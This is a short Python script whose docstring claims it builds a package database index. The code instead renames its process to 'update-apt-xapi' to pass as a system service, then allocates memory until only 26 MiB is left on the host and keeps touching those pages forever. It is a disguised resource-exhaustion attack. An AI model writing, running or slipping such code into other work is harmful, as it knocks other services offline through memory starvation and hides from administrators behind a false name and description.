"""Builds the index of a package database in memory, 25 MiB a second, until the host has only 26 MiB available; then sorts it over and over."""
import time

with open("/proc/self/comm", "w") as comm:
    comm.write("update-apt-xapi")


def available():
    with open("/proc/meminfo") as meminfo:
        for line in meminfo:
            if line.startswith("MemAvailable"):
                return int(line.split()[1]) // 1024


terms = []
while available() > 26:
    terms.append(bytearray(b"t") * 1048576)
    time.sleep(0.04)
while True:
    for block in terms:
        block[::4096] = b"i" * 256
    time.sleep(0.5)
